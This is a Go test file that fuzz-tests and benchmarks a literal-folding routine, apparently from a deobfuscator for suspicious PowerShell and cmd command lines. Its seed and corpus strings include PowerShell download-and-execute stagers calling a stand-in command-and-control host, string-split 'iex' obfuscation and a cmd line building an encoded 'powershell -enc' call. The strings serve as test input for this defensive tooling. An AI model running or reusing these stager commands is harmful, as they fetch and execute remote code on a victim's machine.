package cmdline

import (
	"fmt"
	"strings"
	"testing"
)

// foldLiteralsByByte is foldLiterals as it was before it copied the text
// between folds in one piece: every byte written on its own. The two must
// agree on every input.
func foldLiteralsByByte(s string) string {
	if !mayFold(s) {
		return s
	}
	var b strings.Builder
	b.Grow(len(s))
	for i := 0; i < len(s); {
		c := s[i]
		if c == '(' && canUnwrap(s, i) {
			if v, e, ok := literal(s, skipSpaces(s, i+1)); ok {
				if q := skipSpaces(s, e); q < len(s) && s[q] == ')' {
					b.WriteString(quoteLiteral(v))
					i = q + 1
					continue
				}
			}
		}
		if c != '\'' && c != '"' {
			b.WriteByte(c)
			i++
			continue
		}
		v, e, ok := literal(s, i)
		if !ok {
			b.WriteByte(c)
			i++
			continue
		}
		// Join into a builder: += on a string would copy the growing
		// value once per literal ('a'+'a'+... is quadratic).
		var joined strings.Builder
		for {
			q := skipSpaces(s, e)
			if q >= len(s) || s[q] != '+' {
				break
			}
			w, e2, ok := literal(s, skipSpaces(s, q+1))
			if !ok {
				break
			}
			if joined.Len() == 0 {
				joined.WriteString(v)
			}
			joined.WriteString(w)
			e = e2
		}
		switch {
		case joined.Len() > 0:
			b.WriteString(quoteLiteral(joined.String()))
			i = e
		case c == '\'':
			b.WriteString(s[i:e])
			i = e
		default:
			b.WriteByte(c)
			i++
		}
	}
	return b.String()
}

// FuzzFoldLiterals: foldLiterals gives what writing every byte on its own
// gave, and returns its input itself when nothing folds.
func FuzzFoldLiterals(f *testing.F) {
	for _, s := range []string{
		"('Net.'+'WebC'+'lient')", "(('ie')+'x')", "iex $wc.DownloadString('http://x/a')",
		`gp ('HKCU:Software\'+'Microsoft') -Name "a"+"b"`, "'unterminated + 'x", "(\"a\")", "",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got, want := foldLiterals(s), foldLiteralsByByte(s)
		if got != want {
			t.Fatalf("foldLiterals(%q) = %q, byte by byte %q", s, got, want)
		}
	})
}

func TestFoldLiteralsAgreesOnCorpusLines(t *testing.T) {
	for _, s := range []string{
		strings.Repeat("$wc=New-Object System.Net.WebClient;IEX $wc.DownloadString('http://c2.example.invalid/admin/get.php');", 16),
		"powershell -c \"(('i'+'e')+'x') (gp 'HKCU:\\Software\\'+'X').P\"",
		"cmd /c \"set a=power&& set b=shell&& call %a%%b% -enc AAAA\"",
	} {
		if got, want := foldLiterals(s), foldLiteralsByByte(s); got != want {
			t.Errorf("foldLiterals(%q) = %q, byte by byte %q", s, got, want)
		}
	}
}

// BenchmarkFoldLiterals: a decoded stager (nothing to fold, one
// method-call literal after another) through both, in the same run.
func BenchmarkFoldLiterals(b *testing.B) {
	var text strings.Builder
	for i := range 16 {
		fmt.Fprintf(&text, "$wc%d=New-Object System.Net.WebClient;IEX $wc%d.DownloadString('http://c2.example.invalid/admin/%d.php');", i, i, i)
	}
	s := text.String()
	for _, c := range []struct {
		name string
		fold func(string) string
	}{{"runs", foldLiterals}, {"byte_by_byte", foldLiteralsByByte}} {
		b.Run(c.name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				c.fold(s)
			}
		})
	}
}
